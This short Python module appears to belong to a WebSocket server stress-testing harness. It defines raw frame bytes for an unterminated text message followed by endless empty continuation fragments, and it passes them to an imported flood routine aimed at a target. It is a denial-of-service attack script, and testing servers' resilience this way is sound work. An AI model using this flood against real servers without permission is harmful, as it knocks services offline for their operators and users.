"""Sockets begin a text and go on with empty fragments for ever. Counts `frames`, and `closed CODE`."""

from hostile.attacker import Target
from hostile.attacks.empty_pings import flood

BEGIN, FRAME = b"\x01\x80\x00\x00\x00\x00", b"\x00\x80\x00\x00\x00\x00"


async def attack(target: Target) -> None:
    await flood(target, FRAME, BEGIN)
